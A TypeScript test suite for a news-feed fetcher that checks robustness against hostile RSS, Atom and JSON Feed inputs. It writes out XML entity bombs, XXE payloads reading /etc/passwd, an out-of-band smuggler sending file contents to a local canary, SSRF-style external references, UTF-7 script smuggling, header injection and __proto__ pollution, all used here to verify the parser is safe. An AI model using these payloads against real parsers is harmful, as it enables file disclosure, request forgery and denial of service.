import iconv from 'iconv-lite';
import { GuardedFetch } from '../../src/platform/fetch/guarded-fetch.js';
import { NOW, rss } from '../catalog/catalog-fixture.js';
import { itContactsNobody, openHostileWorld } from './hostile-world.js';
import type { HostileWorld } from './hostile-world.js';

const MB = 1024 * 1024;

interface Row {
  readonly id: string;
  readonly title: string;
  readonly summary: string | null;
  readonly url: string | null;
  readonly published_at: Date;
}

describe('hostile content', () => {
  let world: HostileWorld;
  beforeAll(async () => {
    world = await openHostileWorld({ maxBytes: 10 * MB, timeoutMs: 10_000 });
  });
  afterAll(() => world.close());
  beforeEach(async () => {
    await world.database.query('TRUNCATE story, source, fetch_host CASCADE');
    world.clock.set(NOW);
  });

  /** Fetches this body as a feed. */
  const take = async (body: string | Buffer, headers: Record<string, string> = {}, source = 's') => {
    await world.source(source, world.answer(200, headers, body));
    return await world.fetches.fetchSource(source);
  };
  const stories = () =>
    world.database.query<Row>('SELECT id, title, summary, url, published_at FROM story ORDER BY ref');
  const sightings = async (): Promise<number> =>
    Number((await world.database.query<{ n: string }>('SELECT count(*) AS n FROM story_sighting'))[0]?.n);
  /** Of a feed that may be refused, but must not end the process; then others are still read. */
  const survives = async (body: string | Buffer, headers?: Record<string, string>): Promise<string> => {
    const report = await take(body, headers);
    if (report.kind === 'failed') expect(report.code).toMatch(/^FEED_(?:UNREADABLE|TOO_COSTLY|IS_WEB_PAGE)$/);
    else expect(report.kind).toMatch(/^(?:fetched|unchanged)$/);
    expect(await take(rss([{ title: 'Afterwards' }]), {}, 'other')).toMatchObject({ kind: 'fetched' });
    return report.kind === 'failed' ? report.code : report.kind;
  };
  const item = (inner: string, channel = ''): string =>
    `<rss version="2.0"><channel><title>F</title>${channel}<item>${inner}</item></channel></rss>`;
  const entities = (declared: string, used: string): string =>
    `<?xml version="1.0"?><!DOCTYPE rss [${declared}]>${item(`<title>Before ${used} after</title><link>https://x.example.net/1</link><description>${used}</description>`)}`;

  describe('14 entities, references and depth', () => {
    const bomb = Array.from({ length: 30 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join(
      '',
    );
    it.each([
      ['a billion laughs', `<!ENTITY e0 "ha">${bomb}`, '&e30;'],
      ['a quadratic blow-up', `<!ENTITY a "${'x'.repeat(50_000)}">`, '&a;'.repeat(20_000)],
      ['an entity of itself', '<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;'],
      ['parameter entities', '<!ENTITY % a "<!ENTITY b \'x\'>">%a;', '&b;'],
      ['a file', '<!ENTITY a SYSTEM "file:///etc/passwd">', '&a;'],
      ['an address', '<!ENTITY a SYSTEM "http://127.0.0.1:PORT/xxe">', '&a;'],
      ['an address by a public name', '<!ENTITY a PUBLIC "x" "http://127.0.0.1:PORT/xxe">', '&a;'],
      ['an external subset', '<!ENTITY % a SYSTEM "http://127.0.0.1:PORT/xxe.dtd">%a;', '&b;'],
      [
        'a smuggler',
        '<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % a "<!ENTITY b SYSTEM \'http://127.0.0.1:PORT/?%f;\'>">%a;',
        '&b;',
      ],
    ])('%s', async (_, declared, used) => {
      await survives(entities(declared.replaceAll('PORT', String(world.canary.port)), used));
      const [story] = await stories();
      expect(story?.title).toMatch(/^Before /);
      for (const text of [story?.title ?? '', story?.summary ?? '']) {
        expect(text).not.toMatch(/root:|haha|xxxx/);
        expect(text.length).toBeLessThanOrEqual(10_000);
      }
    });

    it.each([
      [
        'a document type from elsewhere',
        `<!DOCTYPE rss SYSTEM "http://127.0.0.1:PORT/dtd">${item('<title>T</title>')}`,
      ],
      [
        'a style sheet',
        `<?xml-stylesheet href="http://127.0.0.1:PORT/xsl" type="text/xsl"?>${item('<title>T</title>')}`,
      ],
      [
        'XInclude',
        item(
          '<title>T</title><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://127.0.0.1:PORT/"/>',
        ),
      ],
      [
        'a schema',
        `<rss xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x http://127.0.0.1:PORT/"><channel><item><title>T</title></item></channel></rss>`,
      ],
      [
        'a content that lies elsewhere',
        `<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>T</title><content type="text/html" src="http://127.0.0.1:PORT/"/></entry></feed>`,
      ],
      [
        'enclosures and pictures',
        item(
          '<title>T</title><enclosure url="http://127.0.0.1:PORT/" length="-1"/><description>&lt;img src="http://127.0.0.1:PORT/"&gt;</description>',
          '<image><url>http://127.0.0.1:PORT/</url></image>',
        ),
      ],
      [
        'another place to fetch from',
        item(
          '<title>T</title>',
          '<itunes:new-feed-url>http://127.0.0.1:PORT/</itunes:new-feed-url><cloud domain="127.0.0.1" port="PORT"/>',
        ),
      ],
    ])('%s is not fetched', async (_, body) => {
      expect(await take(body.replaceAll('PORT', String(world.canary.port)))).toMatchObject({
        kind: 'fetched',
      });
      expect((await stories()).map((story) => story.title)).toEqual(['T']);
    });

    it.each([
      [
        'a million character references',
        item(`<title>T</title><description>${'&#x41;'.repeat(1_000_000)}</description>`),
      ],
      ['a million of them in a title', item(`<title>${'&#65;'.repeat(1_000_000)}</title>`)],
      [
        'a million references to nothing',
        item(`<title>T</title><description>${'&nothing;'.repeat(1_000_000)}</description>`),
      ],
      ['a million ampersands', item(`<title>T</title><description>${'&'.repeat(1_000_000)}</description>`)],
      [
        'escaped again and again',
        item(`<title>T</title><description>&${'amp;'.repeat(500_000)}lt;</description>`),
      ],
      [
        'references to what is no character',
        item('<title>T &#0; &#xD800; &#xFFFF; &#x110000; &#99999999999; &#-1; &#x;</title>'),
      ],
      ['100,000 levels', item(`<title>T</title>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`)],
      ['100,000 levels that stay open', item(`<title>T</title><description>${'<div>'.repeat(100_000)}`)],
      [
        '100,000 levels of HTML',
        item(`<title>T</title><description><![CDATA[${'<div>'.repeat(100_000)}x]]></description>`),
      ],
      ['a million elements', item(`<title>T</title>${'<a/>'.repeat(1_000_000)}`)],
      [
        'a million attributes',
        item(`<title>T</title><a ${Array.from({ length: 300_000 }, (_, i) => `a${i}="x"`).join(' ')}/>`),
      ],
      [
        '100,000 namespaces',
        `<rss ${Array.from({ length: 100_000 }, (_, i) => `xmlns:n${i}="u${i}"`).join(' ')}><channel><item><title>T</title></item></channel></rss>`,
      ],
      ['an attribute of 5 MB', item(`<title>T</title><a b="${'x'.repeat(5 * MB)}"/>`)],
      ['a name of 5 MB', item(`<title>T</title><${'x'.repeat(5 * MB)}/>`)],
      ['a comment that does not end', item(`<title>T</title><!-- ${'- '.repeat(MB)}`)],
      ['a CDATA that does not end', item(`<title>T</title><description><![CDATA[ ${']]'.repeat(MB)}`)],
      ['a tag that does not end', item(`<title>T</title><a ${'b '.repeat(MB)}`)],
      ['a million tags that do not end', item(`<title>T</title>${'<'.repeat(MB)}`)],
      ['closing tags only', '</a>'.repeat(MB)],
      ['JSON of 100,000 levels', '['.repeat(100_000)],
      [
        'JSON of 100,000 levels in a feed',
        `{"version":"https://jsonfeed.org/version/1.1","items":[{"title":"T","x":${'['.repeat(100_000)}${']'.repeat(100_000)}}]}`,
      ],
      [
        'JSON numbers without end',
        `{"version":"https://jsonfeed.org/version/1.1","items":[{"id":${'9'.repeat(MB)},"title":1e999}]}`,
      ],
    ])('%s', async (_, body) => {
      await survives(body);
      for (const { title, summary } of await stories()) {
        expect(title.length).toBeLessThanOrEqual(500);
        expect((summary ?? '').length).toBeLessThanOrEqual(10_000);
      }
    });
  });

  describe('15 characters and encodings', () => {
    const feed = (declared = ''): string =>
      `<?xml version="1.0"${declared === '' ? '' : ` encoding="${declared}"`}?>${item('<title>Größe – naïve 東京</title><link>https://x.example.net/1</link>')}`;
    const latin = (declared: string): Buffer =>
      iconv.encode(feed(declared).replace('東京', ''), 'windows-1252');

    it.each([
      ['UTF-8', Buffer.from(feed('utf-8')), undefined],
      ['UTF-8 without a word', Buffer.from(feed()), undefined],
      ['UTF-8 with a mark', Buffer.from(`\ufeff${feed('utf-8')}`), undefined],
      ['UTF-8 with two marks', Buffer.from(`\ufeff\ufeff${feed('utf-8')}`), undefined],
      ['UTF-16 LE with a mark', Buffer.from(`\ufeff${feed('utf-16')}`, 'utf16le'), undefined],
      ['UTF-16 BE with a mark', Buffer.from(`\ufeff${feed('utf-16')}`, 'utf16le').swap16(), undefined],
      ['UTF-16 LE without', Buffer.from(feed('utf-16'), 'utf16le'), undefined],
      ['UTF-16 BE without', Buffer.from(feed('utf-16'), 'utf16le').swap16(), undefined],
      ['UTF-16 that says UTF-8', Buffer.from(`\ufeff${feed('utf-8')}`, 'utf16le'), 'text/xml; charset=utf-8'],
      ['UTF-8 that says UTF-16', Buffer.from(feed('utf-16')), 'text/xml; charset=utf-16'],
      ['UTF-8 that says an encoding that is none', Buffer.from(feed('klingon')), 'text/xml; charset=klingon'],
      ['UTF-8 that says a way to write bytes', Buffer.from(feed('base64')), 'text/xml; charset=base64'],
      ['UTF-8 that says another one', Buffer.from(feed('hex')), undefined],
      ['UTF-8 that says binary', Buffer.from(feed()), 'text/xml; charset=binary'],
      ['UTF-8 that says UTF-7', Buffer.from(feed()), 'text/xml; charset=utf-7'],
      [
        'UTF-8 that names a member of every object',
        Buffer.from(feed('constructor')),
        'text/xml; charset=__proto__',
      ],
      ['GB 18030', iconv.encode(feed('gb2312'), 'gb18030'), undefined],
    ])('%s', async (_, body, type) => {
      expect(await take(body, type === undefined ? {} : { 'content-type': type })).toMatchObject({
        kind: 'fetched',
      });
      expect((await stories()).map((story) => story.title)).toEqual(['Größe – naïve 東京']);
    });

    it.each([
      ['by its declaration', latin('iso-8859-1'), undefined],
      ['by its type', latin('utf-8'), 'text/xml; charset=iso-8859-1'],
      ['although it says UTF-8', latin('utf-8'), 'text/xml; charset=utf-8'],
    ])('Latin 1 %s', async (_, body, type) => {
      await take(body, type === undefined ? {} : { 'content-type': type });
      expect((await stories()).map((story) => story.title)).toEqual(['Größe – naïve']);
    });

    it.each([
      [
        'NUL',
        item('<title>A\0B\0</title><guid>\0g\0</guid><description>\0</description><author>\0</author>'),
      ],
      ['NUL by reference', item('<title>A&#0;B</title>')],
      [
        'NUL in JSON',
        '{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"\\u0000","title":"A\\u0000B","url":"https://x.example.net/\\u0000","language":"\\u0000"}]}',
      ],
      [
        'half a character in JSON',
        '{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"\\ud800","title":"A\\ud800B \\udc00","content_text":"\\udfff","tags":["\\ud83d"]}]}',
      ],
      [
        'controls',
        item(`<title>A${Array.from({ length: 31 }, (_, i) => String.fromCharCode(i + 1)).join('')}B</title>`),
      ],
      ['what is no character', item('<title>A\uffff\ufffe\ufdd0B</title>')],
      [
        'broken UTF-8',
        Buffer.concat([
          Buffer.from(item('<title>Größe A')),
          Buffer.from([0xc3, 0x28, 0xff, 0xfe]),
          Buffer.from('B</title>'),
        ]),
      ],
      [
        'UTF-8 that is too long for its character',
        Buffer.concat([
          Buffer.from('<rss><channel><item><title>A'),
          Buffer.from([0xc0, 0xbc, 0xe0, 0x80, 0xbc]),
          Buffer.from('script>B</title></item></channel></rss>'),
        ]),
      ],
      [
        'UTF-8 of half characters',
        Buffer.concat([
          Buffer.from('<rss><channel><item><title>A'),
          Buffer.from([0xed, 0xa0, 0x80]),
          Buffer.from('B</title></item></channel></rss>'),
        ]),
      ],
      ['the end in the middle of a character', Buffer.from(item('<title>AB</title>') + '東').subarray(0, -1)],
      [
        'UTF-16 of an odd length',
        Buffer.from(`\ufeff${item('<title>AB</title>')}`, 'utf16le').subarray(0, -1),
      ],
      [
        'markup in UTF-7',
        Buffer.from(
          item('<title>A +ADw-script+AD4- B</title>').replace(
            '<rss',
            '<?xml version="1.0" encoding="utf-7"?><rss',
          ),
        ),
      ],
      ['a thousand accents on a letter', item(`<title>A${'\u0301'.repeat(100_000)}B</title>`)],
      ['a letter that grows in every form', item(`<title>A${'\ufdfa'.repeat(100_000)}B</title>`)],
    ])('%s', async (_, body) => {
      await survives(body);
      const kept = (await stories()).filter((story) => story.title !== 'Afterwards');
      for (const { title, url } of kept) {
        expect(title).toMatch(/^\S.*\S$/u);
        expect(title.isWellFormed()).toBe(true);
        expect(title.replace('\ufffd', '')).not.toMatch(/\p{Cc}|\p{Cs}/u);
        expect(title).not.toContain('<script');
        expect(title.length).toBeLessThanOrEqual(500);
        expect(url ?? '').not.toMatch(/\p{Cc}|\p{Cs}/u);
      }
    });
  });

  describe('16 GUIDs that are missing, doubled or changed', () => {
    const link = (n: number): string => `https://news.example.net/story-${n}`;
    const two = (first: object, second: object): string =>
      rss([
        { title: 'One', ...first },
        { title: 'Two', ...second },
      ]);
    const cases: readonly (readonly [string, string, string, number])[] = [
      [
        'missing, with links',
        two({ link: link(1) }, { link: link(2) }),
        two({ link: link(1) }, { link: link(2), text: 'more' }),
        2,
      ],
      ['missing, without links', two({}, {}), two({ text: 'x' }, {}), 2],
      [
        'changed with every fetch',
        two({ link: link(1), guid: 'a1' }, { link: link(2), guid: 'a2' }),
        two({ link: link(1), guid: 'b1' }, { link: link(2), guid: 'b2' }),
        2,
      ],
      [
        'appearing later',
        two({ link: link(1) }, { link: link(2) }),
        two({ link: link(1), guid: 'b1' }, { link: link(2), guid: 'b2' }),
        2,
      ],
      [
        'exchanged',
        two({ link: link(1), guid: 'a' }, { link: link(2), guid: 'b' }),
        two({ link: link(1), guid: 'b' }, { link: link(2), guid: 'a' }),
        2,
      ],
      [
        'the same for all',
        two({ link: link(1), guid: 'a' }, { link: link(2), guid: 'a' }),
        two({ link: link(1), guid: 'a' }, { link: link(2), guid: 'a', text: 'x' }),
        2,
      ],
      [
        'the same for all, without links',
        two({ guid: 'a' }, { guid: 'a' }),
        two({ guid: 'a' }, { guid: 'a', text: 'x' }),
        2,
      ],
      ['empty', two({ guid: '' }, { guid: ' ' }), two({ guid: '' }, { guid: '  ', text: 'x' }), 2],
      [
        'of 100,000 characters',
        two({ guid: `${'g'.repeat(100_000)}1` }, { guid: `h${'g'.repeat(100_000)}` }),
        two({ guid: `${'g'.repeat(100_000)}1`, text: 'x' }, { guid: `h${'g'.repeat(100_000)}` }),
        2,
      ],
      [
        'in another order',
        two({ guid: 'a' }, { guid: 'b' }),
        rss([
          { title: 'Two', guid: 'b' },
          { title: 'One', guid: 'a' },
        ]),
        2,
      ],
      [
        'named like members of every object',
        two({ guid: '__proto__' }, { guid: 'constructor' }),
        two({ guid: '__proto__', text: 'x' }, { guid: 'constructor' }),
        2,
      ],
      [
        'an item twice',
        two({ link: link(1), guid: 'a' }, { link: link(1), guid: 'a' }),
        two({ link: link(1), guid: 'a' }, { link: link(1), guid: 'a', text: 'x' }),
        1,
      ],
      [
        'with links that only differ in tracking',
        two({ link: `${link(1)}?utm_source=a` }, { link: `${link(1)}?utm_source=b#c` }),
        two({ link: `${link(1)}?fbclid=1` }, { link: `${link(1)}/` }),
        1,
      ],
      [
        'with the front page for a link',
        two(
          { link: 'https://news.example.net/', guid: 'a' },
          { link: 'https://news.example.net/', guid: 'b' },
        ),
        two(
          { link: 'https://news.example.net', guid: 'a', text: 'x' },
          { link: 'https://news.example.net/', guid: 'b' },
        ),
        2,
      ],
    ];
    it.each(cases)('%s', async (_, first, second, expected) => {
      expect(await take(first)).toMatchObject({ kind: 'fetched' });
      const ids = (await stories()).map((story) => story.id).sort();
      expect(ids).toHaveLength(expected);
      for (const body of [second, first, second]) expect(await take(body)).toMatchObject({ kind: 'fetched' });
      expect((await stories()).map((story) => story.id).sort()).toEqual(ids);
      expect(await sightings()).toBe(expected);
    });

    it('two processes that fetch it at once', async () => {
      await world.source('s', world.answer(200, {}, cases[0]?.[1]));
      await Promise.all([1, 2, 3].map(() => world.fetches.fetchSource('s')));
      expect(await stories()).toHaveLength(2);
      expect(await sightings()).toBe(2);
    });
  });

  describe('17 dates', () => {
    const dated = (date: string): string =>
      item(
        `<title>T</title><link>https://x.example.net/1</link><pubDate>${date.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</pubDate>`,
      );
    const implausible = [
      'Thu, 01 Jan 1970 00:00:00 GMT',
      '1970-01-01',
      '0',
      '-1',
      '0001-01-01T00:00:00Z',
      '0000-00-00 00:00:00',
      '1969-12-31T23:59:59Z',
      'Fri, 31 Dec 9999 23:59:59 GMT',
      '9999-12-31T23:59:59Z',
      '275760-09-13',
      '99999-01-01',
      '2038-01-19T03:14:08Z',
      '253402300799',
      '99999999999999999999',
      '1e400',
      '',
      ' ',
      'now',
      'today',
      'yesterday',
      'null',
      'undefined',
      'NaN',
      'Invalid Date',
      'Invalid date',
      'None',
      '{{date}}',
      'TBA',
      '2026-13-01',
      '2026-02-30',
      '2026-00-10',
      '2026-02-29T25:61:61Z',
      '31/31/2026',
      'Mon, 31 Feb 2026 12:00:00 GMT',
      '2026-W10',
      '２０２６-03-01',
      `${' '.repeat(100_000)}x`,
      '2026-03-01T'.repeat(10_000),
      '1'.repeat(100_000),
      `Mon, ${'Mon, '.repeat(20_000)}`,
      'Mon\r\nBcc: x@example.com',
      '<script>',
      '2026-03-01T10:00:00+99:99',
      '2026-03-05T10:00:00Z',
    ];
    it.each(implausible.map((date) => [JSON.stringify(date).slice(0, 50), date]))(
      'that is not believed: %s',
      async (_, date = '') => {
        expect(await take(dated(date))).toMatchObject({ kind: 'fetched', taken: { errors: [] } });
        expect(await stories()).toMatchObject([{ title: 'T', published_at: NOW }]);
      },
    );

    it.each([
      ['Mon, 02 Mar 2026 10:00:00 GMT', '2026-03-02T10:00:00.000Z'],
      ['Mon, 2 Mar 2026 10:00 GMT', '2026-03-02T10:00:00.000Z'],
      ['2 Mar 26 10:00:00 +0000', '2026-03-02T10:00:00.000Z'],
      ['Monday, March 2, 2026 10:00 AM', '2026-03-02T10:00:00.000Z'],
      ['Fri, 02 Mar 2026 10:00:00 GMT', '2026-03-02T10:00:00.000Z'],
      ['mon, 02 mar 2026 10:00:00 gmt', '2026-03-02T10:00:00.000Z'],
      ['Mon, 02 March 2026 10:00:00 EST', '2026-03-02T15:00:00.000Z', true],
      ['2026-03-02 10:00:00', '2026-03-02T10:00:00.000Z'],
      ['2026-03-02T10:00Z', '2026-03-02T10:00:00.000Z'],
      ['2026-03-02T10:00:00.123456789Z', '2026-03-02T10:00:00.000Z'],
      ['20260302T100000Z', '2026-03-02T10:00:00.000Z'],
      ['2026-03-02T10:00:00+0545', '2026-03-02T04:15:00.000Z'],
      ['2026-03-01', '2026-03-01T00:00:00.000Z'],
      ['2026/03/01', '2026-03-01T00:00:00.000Z'],
      ['1772445600', '2026-03-02T10:00:00.000Z'],
      ['1772445600000', '2026-03-02T10:00:00.000Z'],
      ['Sun, 01 Mar 2026 23:59:60 GMT', '2026-03-01T23:59:59.000Z'],
    ])('that is meant: %s', async (date, meant, ahead = false) => {
      await take(dated(date));
      const [story] = await stories();
      // Nothing has been published later than it was seen.
      expect(story?.published_at.toISOString()).toBe(ahead ? NOW.toISOString() : meant);
    });
  });

  describe('18 much of it', () => {
    it('50,000 items: ten thousand are kept, once, and what was left out is said', async () => {
      const line = (i: number): string =>
        `<item><title>Story ${i}</title><link>https://x.example.net/${i}</link></item>`;
      const body = (more: string): string =>
        `<rss><channel>${Array.from({ length: 50_000 }, (_, i) => line(i)).join('')}${more}</channel></rss>`;
      expect(await take(body(''))).toMatchObject({ kind: 'fetched' });
      expect(await sightings()).toBe(10_000);
      const again = await take(body('<item><title>One more</title></item>'));
      expect(again).toMatchObject({ kind: 'fetched' });
      expect(again.kind === 'fetched' && again.taken.results.every((one) => one.status === 'unchanged')).toBe(
        true,
      );
      expect(await sightings()).toBe(10_000);
    });

    it.each([
      ['a title of 1 MB', { title: 'Long title '.repeat(100_000) }],
      ['a title of 1 MB without a gap', { title: 'x'.repeat(MB) }],
      ['a title of 1 MB of pairs', { title: '😀'.repeat(MB / 4) }],
      ['a text of 8 MB', { title: 'T', text: 'A word. '.repeat(MB) }],
      ['a link of 1 MB', { title: 'T', link: `https://x.example.net/${'y'.repeat(MB)}` }],
      ['a guid of 1 MB', { title: 'T', guid: 'y'.repeat(MB) }],
      ['a date of 1 MB', { title: 'T', date: '2'.repeat(MB) }],
    ])('%s', async (_, one) => {
      expect(await take(rss([one]))).toMatchObject({ kind: 'fetched' });
      const [story] = await stories();
      expect(story?.title.length).toBeLessThanOrEqual(500);
      expect(story?.title.isWellFormed()).toBe(true);
      expect((story?.summary ?? '').length).toBeLessThanOrEqual(10_000);
      expect((story?.url ?? '').length).toBeLessThanOrEqual(2_048);
      // Understood without ado.
      expect(await world.enrichment().enrichAll()).toBeDefined();
    });

    it.each([
      ['authors', item(`<title>T</title>${'<author>Somebody</author>'.repeat(50_000)}`)],
      [
        'categories',
        item(
          `<title>T</title>${Array.from({ length: 50_000 }, (_, i) => `<category>c${i}</category>`).join('')}`,
        ),
      ],
      ['titles', item('<title>T</title>'.repeat(50_000))],
      ['links', item(`<title>T</title>${'<link>https://x.example.net/1</link>'.repeat(50_000)}`)],
      ['enclosures', item(`<title>T</title>${'<enclosure url="https://x.example.net/1"/>'.repeat(50_000)}`)],
    ])('50,000 %s of one item', async (_, body) => {
      await survives(body);
      expect((await stories())[0]).toMatchObject({ title: 'T' });
    });
  });

  describe('21 JSON Feed', () => {
    const json = (items: string, more = ''): string =>
      `{"version":"https://jsonfeed.org/version/1.1","title":"F"${more},"items":${items}}`;
    it.each([
      ['__proto__ of the feed', json('[{"title":"T"}]', ',"__proto__":{"polluted":1,"items":[]}'), 1],
      [
        '__proto__ of an item',
        json('[{"title":"T","__proto__":{"polluted":1,"title":"evil","url":"javascript:1"}}]'),
        1,
      ],
      ['__proto__ alone', json('[{"__proto__":{"title":"evil"}}]'), 0],
      ['constructor', json('[{"title":"T","constructor":{"prototype":{"polluted":1}}}]'), 1],
      ['__proto__ for an id', json('[{"id":"__proto__","title":"T"}]'), 1],
      ['items that are nothing', json('[null,{"title":"T"},null,1,"x",true,[],[[]],{}]'), 1],
      ['items that are no list', json('{"0":{"title":"T"}}'), 0],
      ['no items at all', json('null'), 0],
      [
        'fields of other kinds',
        json(
          '[{"id":{},"title":["x"],"url":1,"authors":{},"tags":"x","attachments":[null,1,{"url":{}}],"date_published":{},"content_html":[],"language":7},{"title":"T"}]',
        ),
        1,
      ],
      ['members twice', json('[{"title":"evil","title":"T"}]'), 1],
      [
        'nulls in every field',
        json(
          '[{"id":null,"title":"T","url":null,"authors":[null],"tags":[null],"attachments":[null],"date_published":null,"content_html":null,"summary":null}]',
        ),
        1,
      ],
      ['with what JSON does not know', `${json('[{"title":"T"}]')},`, -1],
      ['cut off', json('[{"title":"T"}').slice(0, -1), -1],
      ['with a mark in front', `\ufeff${json('[{"title":"T"}]')}`, 1],
    ])('%s', async (_, body, expected) => {
      const report = await take(body, { 'content-type': 'application/feed+json' });
      expect(report).toMatchObject(
        expected < 0 ? { kind: 'failed', code: 'FEED_UNREADABLE' } : { kind: 'fetched' },
      );
      expect((await stories()).map((story) => story.title)).toEqual(Array(Math.max(0, expected)).fill('T'));
      expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    });
  });

  describe('22 one story in twenty feeds', () => {
    const TITLE = 'Brightwater opens its second battery plant in Norland';
    const TEXT =
      'Brightwater opened its second battery plant on Monday. The works in Norland will make cells for 200,000 cars a year and employ 900 people.';
    const events = async (): Promise<number> =>
      Number(
        (await world.database.query<{ n: string }>('SELECT count(DISTINCT event_ref) AS n FROM story'))[0]?.n,
      );

    it.each([
      ['at one address', (_: number) => 'https://x.example.net/plant', 1],
      [
        'with a mark of how one came',
        (i: number) => `http://www.x.example.net/plant/?utm_source=feed${i}#top`,
        1,
      ],
      ['as copies at addresses of their own', (i: number) => `https://paper${i}.example.net/plant`, 20],
    ])('%s is told once', async (_, link, rows) => {
      const sources = Array.from({ length: 20 }, (__, i) => `feed-${i}`);
      for (const [i, source] of sources.entries())
        await world.source(
          source,
          world.answer(
            200,
            {},
            rss([
              {
                title: TITLE,
                link: link(i),
                guid: `g${i}`,
                text: TEXT,
                date: 'Mon, 02 Mar 2026 10:00:00 GMT',
              },
            ]),
          ),
        );
      // All at once, and each twice.
      await Promise.all([...sources, ...sources].map((source) => world.fetches.fetchSource(source)));
      for (const source of sources) await world.fetches.fetchSource(source);
      expect(await stories()).toHaveLength(rows);
      expect(await sightings()).toBe(20);
      await Promise.all([world.enrichment().enrichAll(), world.enrichment().enrichAll()]);
      expect(await events()).toBe(1);
      expect((await world.catalog.get((await stories())[0]?.id ?? '')).sources).toHaveLength(
        rows === 1 ? 20 : 1,
      );
    });
  });

  itContactsNobody(
    () => world,
    (allow) => Promise.resolve(new GuardedFetch({ allow, maxBytes: 1_000, timeoutMs: 3_000 })),
  );
});
